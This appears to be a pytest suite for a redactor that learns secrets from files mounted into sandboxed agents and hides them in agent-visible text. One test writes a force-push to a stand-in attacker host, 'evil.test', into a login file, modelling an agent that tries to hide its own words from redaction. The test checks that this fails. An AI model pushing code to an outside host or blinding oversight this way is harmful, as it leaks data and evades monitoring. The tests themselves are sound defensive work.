"""Secrets in files that agents are shown: known whole, and known anew once they are renewed."""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from pathlib import Path

import pytest

from config.mounted import LARGEST, Mounted
from core.model import Agent, Mount
from core.redaction import Redactor

OLD, NEW = "oldsecretvalue-123456", "newsecretvalue-987654"


def agent(source: Path, *, writable: bool = False) -> Agent:
    return Agent("a", driver="command", sandbox="bubblewrap",
                 mounts=(Mount(source, "~/held", writable),))


def redactor(source: Path, *, writable: bool = False) -> Redactor:
    made = Redactor()
    made.follow(Mounted([agent(source, writable=writable)], pause=0.0))
    return made


@pytest.mark.parametrize("writable", [False, True])
def test_what_is_renewed_in_a_file_is_known_before_it_is_shown(
        tmp_path: Path, writable: bool) -> None:
    file = tmp_path / "auth.json"
    file.write_text(json.dumps({"k": OLD}))
    clean = redactor(file, writable=writable)
    assert clean.text(f"{OLD} {NEW}") == f"[redacted] {NEW}"
    file.write_text(json.dumps({"k": NEW}))
    assert clean.text(f"{OLD} {NEW}") == "[redacted] [redacted]"
    assert {OLD, NEW} <= clean.secrets
    stream = clean.stream()
    file.write_text(json.dumps({"k": "thirdsecretvalue-5"}))
    assert stream.feed(f"{OLD} thirdsecretvalue-5\n") + stream.close() == "[redacted] [redacted]\n"


def test_one_of_the_same_size_and_time_is_seen_too(tmp_path: Path) -> None:
    file = tmp_path / "auth"
    file.write_text(OLD)
    clean, before = redactor(file), file.stat()
    file.write_text(NEW)
    os.utime(file, ns=(before.st_atime_ns, before.st_mtime_ns))
    assert clean.text(NEW) == "[redacted]"


def test_one_that_is_put_in_the_place_of_the_other_is_seen(tmp_path: Path) -> None:
    file = tmp_path / "auth"
    file.write_text(OLD)
    clean = redactor(file)
    (tmp_path / "draft").write_text(NEW)
    os.replace(tmp_path / "draft", file)
    assert clean.text(NEW) == "[redacted]"


def test_a_large_file_is_read_whole(tmp_path: Path) -> None:
    file = tmp_path / "big.json"
    file.write_text(json.dumps({"pad": "x y " * 20_000, "k": OLD}))
    assert redactor(file).text(OLD) == "[redacted]"
    assert Mounted([agent(file)]).unread() == []


def _too_large(path: Path) -> None:
    path.write_text("x y\n" * (LARGEST // 4) + OLD)


def _no_text(path: Path) -> None:
    path.write_bytes(b"\xff\xfe" + OLD.encode())


def _too_many(path: Path) -> None:
    path.write_text("".join(f"value-number-{n}\n" for n in range(1000)))


@pytest.mark.parametrize("write, why", [
    (_too_large, "has more than 1 MiB"), (_no_text, "is no text"),
    (_too_many, "holds more than 500 values: only those named as keys are known"),
])
def test_what_cant_be_read_for_secrets_is_told(
        tmp_path: Path, write: Callable[[Path], None], why: str) -> None:
    file = tmp_path / "held"
    write(file)
    assert Mounted([agent(file)]).unread() == [f"{file} {why}"]


def test_a_folder_with_very_many_files_is_told(tmp_path: Path) -> None:
    for number in range(201):
        (tmp_path / f"{number}").write_text("words")
    assert Mounted([agent(tmp_path)]).unread() == [
        f"{tmp_path} holds more than 200 files: only those are looked at"]


def test_an_agent_hides_no_words_of_its_own_by_writing_them_into_its_login(
        tmp_path: Path) -> None:
    file = tmp_path / "auth.json"
    file.write_text(json.dumps({"k": OLD}))
    clean = redactor(file, writable=True)
    file.write_text(json.dumps({"k": NEW, "a": "--force-with-lease", "b": "https://evil.test/x1y2"}))
    words = "git push --force-with-lease https://evil.test/x1y2"
    assert clean.text(words) == words
    assert clean.text(NEW) == "[redacted]"


@pytest.mark.parametrize("held", ["[" * 100_000, "PRIVATE KEY" + "x" * 500_000, "\0" * 1000, ""])
def test_nothing_that_an_agent_writes_there_stops_us(tmp_path: Path, held: str) -> None:
    file = tmp_path / "auth.json"
    file.write_text(OLD)
    clean = redactor(file, writable=True)
    file.write_text(held)
    assert clean.text(f"{OLD} is known") == "[redacted] is known"
    file.unlink()
    assert clean.text(f"{OLD} is known") == "[redacted] is known"


def test_a_flood_of_values_is_bounded_and_pushes_out_nothing_that_was_given(
        tmp_path: Path) -> None:
    file = tmp_path / "auth"
    file.write_text(OLD)
    clean = redactor(file, writable=True)
    for turn in range(4):
        file.write_text("".join(f"secretvalue-{turn}-{n:05}\n" for n in range(400)))
        clean.text("x")
    assert len(clean.secrets) <= 201 and OLD in clean.secrets


def test_in_a_folder_what_is_new_is_found_and_a_pipe_or_link_is_passed_over(
        tmp_path: Path) -> None:
    folder = tmp_path / "held"
    folder.mkdir()
    (folder / "a.env").write_text(f"API_KEY={OLD}\nNAME=anordinaryvalue1\n")
    clean = redactor(folder, writable=True)
    os.mkfifo(folder / "pipe")
    (tmp_path / "elsewhere").write_text("API_KEY=secretelsewhere-77\n")
    (folder / "link").symlink_to(tmp_path / "elsewhere")
    (folder / "b.env").write_text(f"API_KEY={NEW}\n")
    assert clean.text(f"{OLD} {NEW} anordinaryvalue1 secretelsewhere-77") == (
        "[redacted] [redacted] anordinaryvalue1 secretelsewhere-77")


def test_what_one_source_told_stays_known_after_the_next(tmp_path: Path) -> None:
    file = tmp_path / "auth"
    file.write_text(OLD)
    clean = redactor(file)
    file.write_text(NEW)
    assert clean.text(NEW) == "[redacted]"
    clean.follow(Mounted([]))
    assert clean.text(f"{OLD} {NEW}") == "[redacted] [redacted]"
